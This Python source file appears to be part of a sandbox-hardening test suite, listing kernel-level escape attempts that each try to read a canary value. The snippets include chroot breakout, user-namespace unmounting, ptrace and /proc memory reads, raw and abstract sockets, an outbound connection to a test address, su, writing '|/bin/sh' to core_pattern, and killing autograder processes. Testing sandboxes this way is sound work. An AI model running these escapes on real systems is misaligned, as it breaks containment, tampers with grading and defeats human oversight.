"""Out of the jail, or into a neighbour: the kernel's interfaces, descriptors, signals."""

from __future__ import annotations

from .attack import FULL, Attack
from .reading import looks


def tries(name: str, what: str, text: str, worth: float = FULL) -> Attack:
    return Attack(f"escapes by {name}", what, worth=worth, solved=True, first=(f"import os, sys, ctypes, signal, socket\nlibc = ctypes.CDLL(None, use_errno=True)\ntry:\n    {text}\nexcept BaseException as error: print('refused', error)",))


ATTACKS = [
    tries("mount", "mounts the machine's disk", "r = libc.mount(b'/dev/sda1', b'/tmp', b'ext4', 0, None); print(r, os.listdir('/tmp')); print(open('@HOME@/canary.txt').read())"),
    tries("user namespace", "makes itself root in a namespace of its own and unmounts what hides the files", "print(libc.unshare(0x10000000 | 0x20000), libc.umount2(b'/proc', 2), libc.umount2(b'/tmp', 2)); print(open('@HOME@/canary.txt').read())"),
    tries("ptrace", "attaches to the processes around it", "print([libc.ptrace(16, pid, 0, 0) for pid in range(1, 60) if pid != os.getpid()]); print(open('/proc/1/environ').read())"),
    tries("chroot", "climbs out with chroot", "os.mkdir('d'); os.chroot('d'); [os.chdir('..') for _ in range(50)]; os.chroot('.'); print(open('@HOME@/canary.txt').read())"),
    tries("memory of others", "reads another process's memory", "print([open(f'/proc/{pid}/mem', 'rb').read(1) for pid in range(1, 40)]); print(os.environ['CANARY'])"),
    tries("process_vm_readv", "reads memory by system call", "buf = ctypes.create_string_buffer(64); print([libc.process_vm_readv(pid, buf, 1, buf, 1, 0) for pid in range(1, 40)]); print(os.environ['CANARY'])"),
    tries("signals", "kills every process that it may", "[os.kill(pid, 9) for pid in range(1, 400) if pid not in (1, os.getpid()) and (os.path.exists(f'/proc/{pid}') and b'autograder' in open(f'/proc/{pid}/cmdline', 'rb').read())]"),
    tries("kill all", "sends SIGTERM to all processes at once", "signal.signal(signal.SIGTERM, signal.SIG_IGN); open('/proc/1/comm').read(); raise OSError('not here')"),
    tries("abstract sockets", "looks for sockets without a file", "s = socket.socket(socket.AF_UNIX); [s.connect('\\0' + n) for n in ('/tmp/.X11-unix/X0', '/tmp/dbus', 'pwn')]; print(os.environ['CANARY'])"),
    tries("network", "sends what it found away", "s = socket.create_connection(('192.0.2.1', 80), 2); s.send(b'pwned'); print(open('@HOME@/canary.txt').read())"),
    tries("raw sockets", "listens to the network", "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print(s); print(open('@HOME@/canary.txt').read())"),
    tries("setuid", "runs programs that have more rights", "import subprocess; print(subprocess.run(['su', '-c', 'cat @HOME@/canary.txt'], capture_output=True, input=b'', timeout=5).stdout)"),
    looks("kernel settings", "reads and writes the kernel's settings", "open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh') and open('@HOME@/canary.txt').read()", "open('/sys/kernel/uevent_helper', 'w').write('x') and open('@HOME@/canary.txt').read()"),
    tries("the parent's socket", "passes its own descriptors on, and takes others from every socket it has", "import array\n    for fd in range(3, 32):\n        try:\n            s = socket.socket(fileno=os.dup(fd)); s.setblocking(False); print(s.recvmsg(10, 1000))\n        except (OSError, ValueError): pass\n    print(os.environ['CANARY'])", worth=FULL),
]
